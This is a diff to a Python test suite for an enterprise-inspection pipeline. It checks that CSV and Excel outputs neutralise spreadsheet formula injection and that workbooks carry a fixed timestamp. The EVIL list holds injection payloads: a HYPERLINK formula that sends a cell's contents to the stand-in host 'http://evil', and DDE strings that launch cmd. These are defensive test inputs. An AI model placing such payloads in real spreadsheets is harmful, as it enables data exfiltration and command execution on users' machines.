@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import csv
 import io
+import pathlib
 
 import numpy as np
 import pandas as pd
@@ -20,16 +21,27 @@ from models.sampling import Campaign
 from models.warning import MonitoringRule, WarningConfig
 from pipelines import io as pio
 from pipelines.config import load_config
-from pipelines.feedback import link, read_plan, read_results, run_feedback
-from pipelines.ingest_config import IngestConfig
+from pipelines.feedback import read_plan, read_results, run_feedback
+from pipelines.intake.config import IngestConfig
+from pipelines.intake.findings import link
 from pipelines.io import csv_text, formula_safe, formula_safe_text, write_csv, write_xlsx
 from pipelines.plan import run_plan
 from pipelines.warn import run_warn
 from tests.conftest import ROOT
 
 HYPERLINK = '=HYPERLINK("http://evil"&B4,"x")'
-EVIL = [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3+cmd|'/C calc'!A0", "\t=1+1",
-        "\r=1+1", "  =1+1", "\u3000@SUM(A1)", "-", "+"]  # fmt: skip
+EVIL = [
+    HYPERLINK,
+    "+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "-2+3+cmd|'/C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\u3000@SUM(A1)",
+    "-",
+    "+",
+]
 MONTH = "2026-10"
 
 
@@ -83,15 +95,19 @@ def test_a_tab_before_a_number_is_still_prefixed() -> None:
 
 
 def test_the_frame_is_new_text_is_safe_and_the_rest_untouched() -> None:
-    raw = pd.DataFrame({
-        "name": pd.Series([*EVIL[:4], "ok", None], dtype="str"),
-        "obj": pd.Series(["=1+1", None, np.nan, 5, ("=x",), "-7"], dtype=object),
-        "cat": pd.Categorical(["@a", "b", None, "@a", "b", "b"]),
-        "=total": [1.5, -2.0, np.nan, 3.0, 4.0, 5.0],
-        "n": [1, -2, 3, 4, 5, 6],
-        "flag": [True, False, True, False, True, False],
-        "when": pd.to_datetime(["2026-10-01", None, "2026-10-03", "2026-10-04", None, "2026-10-06"]),
-    })  # fmt: skip
+    raw = pd.DataFrame(
+        {
+            "name": pd.Series([*EVIL[:4], "ok", None], dtype="str"),
+            "obj": pd.Series(["=1+1", None, np.nan, 5, ("=x",), "-7"], dtype=object),
+            "cat": pd.Categorical(["@a", "b", None, "@a", "b", "b"]),
+            "=total": [1.5, -2.0, np.nan, 3.0, 4.0, 5.0],
+            "n": [1, -2, 3, 4, 5, 6],
+            "flag": [True, False, True, False, True, False],
+            "when": pd.to_datetime(
+                ["2026-10-01", None, "2026-10-03", "2026-10-04", None, "2026-10-06"]
+            ),
+        }
+    )
     before = raw.copy(deep=True)
     safe = formula_safe(raw)
     pd.testing.assert_frame_equal(raw, before)  # the caller's frame is not touched
@@ -160,14 +176,24 @@ def _province(tmp_path, n: int = 12):  # type: ignore[no-untyped-def]
     outputs, interim = tmp_path / "outputs", tmp_path / "interim"
     (outputs / MONTH).mkdir(parents=True)
     interim.mkdir()
-    pd.DataFrame({
-        "uscc": uscc, "class_final": [("A", "B", "C", "D")[i % 4] for i in range(n)],
-        "scheme": "henan", "score": [100.0 + 70 * i for i in range(n)], "model_version": "v1",
-    }).to_parquet(outputs / MONTH / "classes.parquet", index=False)  # fmt: skip
-    pd.DataFrame({
-        "uscc": uscc, "name": [EVIL[i % len(EVIL)] for i in range(n)],
-        "division_code": "410102", "status": "operating", "sector_tags": "",
-    }).to_parquet(interim / "enterprises.parquet", index=False)  # fmt: skip
+    pd.DataFrame(
+        {
+            "uscc": uscc,
+            "class_final": [("A", "B", "C", "D")[i % 4] for i in range(n)],
+            "scheme": "henan",
+            "score": [100.0 + 70 * i for i in range(n)],
+            "model_version": "v1",
+        }
+    ).to_parquet(outputs / MONTH / "classes.parquet", index=False)
+    pd.DataFrame(
+        {
+            "uscc": uscc,
+            "name": [EVIL[i % len(EVIL)] for i in range(n)],
+            "division_code": "410102",
+            "status": "operating",
+            "sector_tags": "",
+        }
+    ).to_parquet(interim / "enterprises.parquet", index=False)
     return outputs, interim
 
 
@@ -202,10 +228,17 @@ def test_warnings_csv_is_formula_safe(tmp_path) -> None:  # type: ignore[no-unty
         features / f"{MONTH}.parquet", index=False
     )
     cfg = WarningConfig(
-        rise_classes=1, rise_score=200,
-        rules=(MonitoringRule(name="burst", zh="频繁变更", en="burst",
-                              when=(Condition(feature="chg", op=">=", value=5),)),),
-    )  # fmt: skip
+        rise_classes=1,
+        rise_score=200,
+        rules=(
+            MonitoringRule(
+                name="burst",
+                zh="频繁变更",
+                en="burst",
+                when=(Condition(feature="chg", op=">=", value=5),),
+            ),
+        ),
+    )
     scheme = load_config(ROOT / "configs" / "classes" / "henan.yaml", ClassScheme)
     run = run_warn(MONTH, cfg, scheme, outputs, features, interim)
     assert len(run.table) == len(classes) and set(run.table["name"]) == set(EVIL)
@@ -216,12 +249,18 @@ def test_warnings_csv_is_formula_safe(tmp_path) -> None:  # type: ignore[no-unty
 
 def _results(plan: pd.DataFrame, plan_id: str) -> pd.DataFrame:
     firms = plan.drop_duplicates("uscc").reset_index(drop=True)
-    return pd.DataFrame({
-        "plan_id": plan_id, "uscc": firms["uscc"],
-        "inspection_id": [f"FB{i:04d}" for i in range(len(firms))],
-        "inspection_date": "2026-11-12", "result": "no_problem", "problem_found": "false",
-        "problem_category": "", "received_date": "2026-11-20",
-    })  # fmt: skip
+    return pd.DataFrame(
+        {
+            "plan_id": plan_id,
+            "uscc": firms["uscc"],
+            "inspection_id": [f"FB{i:04d}" for i in range(len(firms))],
+            "inspection_date": "2026-11-12",
+            "result": "no_problem",
+            "problem_found": "false",
+            "problem_category": "",
+            "received_date": "2026-11-20",
+        }
+    )
 
 
 def test_feedback_rejected_csv_is_formula_safe(tmp_path) -> None:  # type: ignore[no-untyped-def]
@@ -251,3 +290,18 @@ def test_feedback_links_a_plan_whose_id_starts_like_a_formula(tmp_path) -> None:
     linked, rejected = link(plan, read_results(path))
     assert rejected.empty and len(linked) == run.plan["uscc"].nunique()
     assert linked["plan_id"].eq(plan_id).all()  # the delivery carries the id as drawn
+
+
+def test_workbooks_carry_no_wall_clock(tmp_path: pathlib.Path) -> None:
+    """openpyxl stamps the time of writing; write_xlsx replaces it, so the bytes reproduce."""
+    import zipfile
+
+    from pipelines.io import FIXED_TIME, write_xlsx
+
+    write_xlsx(pd.DataFrame({"name": ["=1+1", "某某公司"], "n": [1, 2]}), tmp_path / "a.xlsx")
+    with zipfile.ZipFile(tmp_path / "a.xlsx") as z:
+        assert {i.date_time for i in z.infolist()} == {FIXED_TIME}
+        core = z.read("docProps/core.xml").decode()
+    assert core.count("1980-01-01T00:00:00Z") == 2
+    rows = [[c.value for c in r] for r in load_workbook(tmp_path / "a.xlsx").active.iter_rows()]
+    assert rows == [["name", "n"], ["'=1+1", 1], ["某某公司", 2]]
